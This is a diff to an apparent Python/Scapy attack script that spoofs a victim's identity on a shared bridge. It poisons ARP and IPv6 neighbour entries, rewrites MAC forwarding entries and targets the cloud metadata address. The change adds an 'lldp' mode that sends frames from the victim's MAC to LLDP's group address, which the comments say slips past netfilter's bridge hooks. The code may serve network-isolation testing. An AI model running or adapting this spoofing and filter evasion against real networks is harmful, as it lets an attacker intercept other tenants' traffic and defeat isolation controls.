@@ -9,7 +9,8 @@ two things the attacker can write from its own port:
 - `--mode arp`: the node's neighbour entry for the victim's address (ARP requests to the node
   claiming that address with the attacker's MAC);
 - `--mode mac`: the bridge's forwarding entry for the victim's MAC (frames sent with the
-  victim's MAC as their source);
+  victim's MAC as their source); `--mode lldp` the same with frames to LLDP's link-local group
+  address, which the bridge learns from outside netfilter's bridge hooks;
 - `--mode na`: on IPv6, the node's neighbour entry for the victim's address (unsolicited
   neighbour advertisements, override flag set, naming the attacker's MAC).
 
@@ -48,7 +49,7 @@ METADATA = "169.254.169.254"
 def main():
     parser = argparse.ArgumentParser()
     parser.add_argument("--iface", default="eth0")
-    parser.add_argument("--mode", choices=["arp", "na", "mac", "syn"], required=True)
+    parser.add_argument("--mode", choices=["arp", "na", "mac", "lldp", "syn"], required=True)
     parser.add_argument("--victim-ip", required=True)
     parser.add_argument("--victim-mac", required=True)
     parser.add_argument("--gateway-ip", required=True)
@@ -66,7 +67,7 @@ def main():
 
     sock = conf.L2socket(iface=args.iface)
     own_mac = open(f"/sys/class/net/{args.iface}/address").read().strip()
-    source_mac = args.victim_mac if args.mode == "mac" else own_mac
+    source_mac = args.victim_mac if args.mode in ("mac", "lldp") else own_mac
 
     def tagged(ether, count):
         # A bridge that is not VLAN-aware hands VLAN 0 (a priority tag) to the node untagged.
@@ -89,6 +90,9 @@ def main():
             # "Who has the gateway? Tell <victim IP> at <attacker MAC>": the node learns it.
             claim = ARP(op=1, hwsrc=own_mac, psrc=args.victim_ip, hwdst="00:00:00:00:00:00", pdst=args.gateway_ip)
             sock.send(tagged(Ether(src=own_mac, dst="ff:ff:ff:ff:ff:ff"), claim_tags) / claim)
+        elif args.mode == "lldp":
+            # To LLDP's group address, which the bridge learns from with no netfilter hook.
+            sock.send(Ether(src=args.victim_mac, dst="01:80:c2:00:00:0e", type=0x88CC) / Raw(b"\0" * 46))
         else:
             # Any frame from the victim's MAC teaches the bridge that MAC is on this port: one
             # that claims no address at all (IEEE's local experimental EtherType).
